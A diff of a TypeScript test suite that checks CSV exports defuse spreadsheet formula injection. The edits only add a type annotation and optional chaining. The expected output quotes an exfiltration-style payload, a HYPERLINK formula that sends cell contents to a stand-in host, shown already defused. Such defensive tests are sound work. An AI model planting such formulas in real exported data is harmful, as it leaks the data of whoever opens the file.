@@ -63,7 +63,7 @@ const tagsFor = (c: string, n: number) => [
 describe('CSV exports defuse formulas', () => {
   it('hardware: a text field, a note, a tag and a list element, for each dangerous character', async () => {
     const user = await createUser(t.app, admin);
-    const created = [];
+    const created: Array<{ id: string; pcname: string; notes: string; tags: string[] }> = [];
     for (const [n, c] of DANGEROUS.entries()) {
       const res = await call(user, 'POST', '/hardware', {
         // Text fields are trimmed: the tab and CR survive inside, the character after them leads.
@@ -84,7 +84,7 @@ describe('CSV exports defuse formulas', () => {
       expect(row?.tags).toBe(stored.tags.map(defused).join(';'));
     }
     // The attack of the issue, exactly: the tag comes out as text.
-    expect(rows.find((r) => r.id === created[0].id)?.tags).toBe(
+    expect(rows.find((r) => r.id === created[0]?.id)?.tags).toBe(
       `'=HYPERLINK("http://x/?"&A0,"x");plain-0;'=SUM(A1)`,
     );
     // JSON keeps the values as stored.
